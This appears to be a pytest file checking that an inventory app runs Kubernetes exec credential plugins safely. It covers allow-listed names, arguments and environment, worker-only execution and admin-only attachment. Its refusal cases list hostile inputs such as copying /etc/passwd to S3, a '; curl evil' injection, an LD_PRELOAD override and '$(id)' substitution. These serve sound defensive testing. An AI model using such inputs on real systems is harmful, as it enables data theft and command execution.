"""Exec credential plugins: found by name in admin-configured directories, args and env allow-listed, run with a
minimal environment, only in workers, attached only by admins."""

from __future__ import annotations

import json
import os
import stat

import pytest
import yaml

from inventory import access, execplugins, kube, kubeconfigs, services
from inventory.models import Cluster

AWS_ARGS = ["eks", "get-token", "--cluster-name", "prod", "--region", "eu-west-1", "--output", "json"]


def exec_kubeconfig(server: str = "https://api.example.com:6443", **exec_spec) -> str:
    spec = {"apiVersion": "client.authentication.k8s.io/v1", "command": "aws", "args": AWS_ARGS, **exec_spec}
    return yaml.safe_dump({
        "apiVersion": "v1", "kind": "Config", "current-context": "eks",
        "clusters": [{"name": "c", "cluster": {"server": server}}],
        "users": [{"name": "u", "user": {"exec": spec}}],
        "contexts": [{"name": "eks", "context": {"cluster": "c", "user": "u"}}],
    })


def extract(text: str) -> dict:
    return kubeconfigs.extract_context(kubeconfigs.parse_kubeconfig(text), "eks")


@pytest.fixture
def plugin_dir(settings, tmp_path):
    """An allowed directory holding an `aws` that prints a token and records its argv and environment."""
    bin_dir = tmp_path / "plugins"
    bin_dir.mkdir()
    record = tmp_path / "record.json"
    script = bin_dir / "aws"
    token = os.environ.get("FLEETWEB_TEST_PLUGIN_TOKEN", "plugin-token")
    script.write_text(
        "#!/usr/bin/python3\n"
        "import json, os, sys\n"
        f"json.dump({{'argv': sys.argv[1:], 'env': dict(os.environ)}}, open({str(record)!r}, 'w'))\n"
        "print(json.dumps({'apiVersion': 'client.authentication.k8s.io/v1', 'kind': 'ExecCredential',\n"
        f"                  'status': {{'token': open({str(tmp_path / 'token')!r}).read().strip()}}}}))\n")
    (tmp_path / "token").write_text(token)
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    settings.FLEETWEB_EXEC_PLUGIN_DIRS = [str(bin_dir)]
    settings.FLEETWEB_EXEC_PLUGIN_HOME = str(tmp_path)
    execplugins._cache.clear()
    execplugins.allow_in_this_process()
    yield {"dir": bin_dir, "record": record, "token_file": tmp_path / "token"}
    execplugins.forbid_in_this_process()


@pytest.mark.parametrize(("spec", "message"), [
    ({"command": "/any/path/aws"}, "at the path '/any/path/aws': give only its name"),
    ({"command": "./aws"}, "give only its name"),
    ({"command": "bash", "args": ["-c", "id"]}, "exec plugin 'bash', which is not allowed here"),
    ({"args": ["s3", "cp", "/etc/passwd", "s3://x"]}, "must be run as 'aws eks get-token …'"),
    ({"args": ["eks", "get-token", "--endpoint-url", "https://evil.example"]}, "may not be given the argument"),
    ({"args": ["eks", "get-token", "--cluster-name", "prod; curl evil"]}, "value of '--cluster-name'"),
    ({"args": ["eks", "get-token", "--cluster-name"]}, "'--cluster-name' of 'aws' has no value"),
    ({"env": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]}, "may not be given the environment variable 'LD_PRELOAD'"),
    ({"env": [{"name": "PATH", "value": "/tmp"}]}, "environment variable 'PATH'"),
    ({"env": [{"name": "AWS_PROFILE", "value": "$(id)"}]}, "value of 'AWS_PROFILE'"),
])
def test_exec_sections_outside_the_allow_list_are_refused(plugin_dir, spec, message):
    with pytest.raises(kubeconfigs.KubeconfigError, match=message):
        extract(exec_kubeconfig(**spec))


def test_no_plugin_runs_without_configured_directories(settings):
    settings.FLEETWEB_EXEC_PLUGIN_DIRS = []
    with pytest.raises(kubeconfigs.KubeconfigError, match="runs no exec plugins"):
        extract(exec_kubeconfig())


def test_a_plugin_not_in_the_allowed_names_is_refused_even_when_installed(plugin_dir, settings):
    settings.FLEETWEB_ALLOWED_EXEC_PLUGINS = ["kubelogin"]
    with pytest.raises(kubeconfigs.KubeconfigError, match="'aws', which is not allowed here"):
        extract(exec_kubeconfig())


def test_a_genuine_plugin_runs_with_its_allowed_args_and_a_minimal_environment(plugin_dir, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", "postgresql://secret@db/fleetweb")
    monkeypatch.setenv("FLEETWEB_ENCRYPTION_KEYS", "secret-key")
    env = [{"name": "AWS_PROFILE", "value": "prod-reader"}]
    single = extract(exec_kubeconfig(env=env))
    user = single["users"][0]["user"]
    assert user["exec"]["command"] == "aws"
    got = execplugins.credential(user["exec"], server="https://api.example.com:6443")
    assert got == {"token": "plugin-token"}
    run = json.loads(plugin_dir["record"].read_text())
    assert run["argv"] == AWS_ARGS
    assert set(run["env"]) <= {"PATH", "HOME", "LANG", "KUBERNETES_EXEC_INFO", "AWS_PROFILE", "PWD", "LC_CTYPE"}
    assert run["env"]["PATH"] == str(plugin_dir["dir"])
    assert run["env"]["AWS_PROFILE"] == "prod-reader"
    assert json.loads(run["env"]["KUBERNETES_EXEC_INFO"])["spec"]["cluster"]["server"] == "https://api.example.com:6443"
    assert not any("secret" in value for value in run["env"].values())


def test_plugins_do_not_run_in_the_web_process(plugin_dir):
    execplugins.forbid_in_this_process()
    spec = extract(exec_kubeconfig())["users"][0]["user"]["exec"]
    with pytest.raises(execplugins.ExecPluginError, match="run only in Fleetweb's workers"):
        execplugins.credential(spec, server="https://api.example.com:6443")
    assert not plugin_dir["record"].exists()
    with pytest.raises(kube.KubeError, match="run only in Fleetweb's workers"):
        kube.connect(kubeconfigs.credentials_from_kubeconfig(extract(exec_kubeconfig())))


def test_a_failing_plugin_says_so_without_echoing_its_output(plugin_dir):
    script = plugin_dir["dir"] / "aws"
    script.write_text("#!/bin/sh\necho 'SECRET-IN-STDERR' >&2\necho 'SECRET-IN-STDOUT'\nexit 3\n")
    spec = extract(exec_kubeconfig())["users"][0]["user"]["exec"]
    with pytest.raises(execplugins.ExecPluginError) as err:
        execplugins.credential(spec, server="https://api.example.com:6443")
    assert "exit status 3" in str(err.value)
    assert "SECRET" not in str(err.value)


def _attach_exec(user):
    single = extract(exec_kubeconfig())
    credentials = kubeconfigs.credentials_from_kubeconfig(single)
    return services.attach_cluster(name="eks-prod", credentials=credentials, user=user)


def test_operator_cannot_attach_an_exec_kubeconfig(plugin_dir, operator):
    with pytest.raises(services.AttachError, match="Only admins may attach a kubeconfig that runs an exec plugin"):
        _attach_exec(operator)
    assert not Cluster.objects.exists()


def test_operator_cannot_attach_an_exec_kubeconfig_through_the_api(plugin_dir, operator, api_as):
    response = api_as(operator).post("/api/v1/clusters/", {"name": "eks-prod", "kubeconfig": exec_kubeconfig()},
                                     format="json")
    assert response.status_code == 403, response.content
    assert "exec plugin" in response.json()["detail"]
    assert not Cluster.objects.exists()


def test_operator_cannot_attach_an_exec_kubeconfig_through_the_page(plugin_dir, operator, client):
    client.force_login(operator)
    response = client.post("/clusters/attach/", {"method": "kubeconfig", "kubeconfig": exec_kubeconfig(),
                                                 "contexts": ["eks"], "meta-environment": "dev",
                                                 "meta-sync_interval": "60"})
    assert response.status_code == 400
    assert b"Only admins may attach a kubeconfig that runs an exec plugin" in response.content
    assert not Cluster.objects.exists()


def test_admin_attaches_an_exec_kubeconfig(plugin_dir, admin_user, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks():
        cluster = _attach_exec(admin_user)
    assert cluster.auth_method == "kubeconfig"


@pytest.mark.e2e
def test_an_exec_plugin_token_reaches_a_real_member(plugin_dir, member):
    """The plugin's token is what the member's API server authenticates."""
    creds = member.token_credentials()
    plugin_dir["token_file"].write_text(creds["token"])
    kubeconfig = yaml.safe_load(exec_kubeconfig(server=creds["server"]))
    kubeconfig["clusters"][0]["cluster"]["certificate-authority-data"] = __import__("base64").b64encode(
        creds["ca_data"].encode()).decode()
    single = extract(yaml.safe_dump(kubeconfig))
    report = access.test_connection(kubeconfigs.credentials_from_kubeconfig(single))
    assert report.ok, [c.detail for c in report.checks if not c.ok]
    assert report.version.startswith("v1.")
    assert json.loads(plugin_dir["record"].read_text())["argv"] == AWS_ARGS
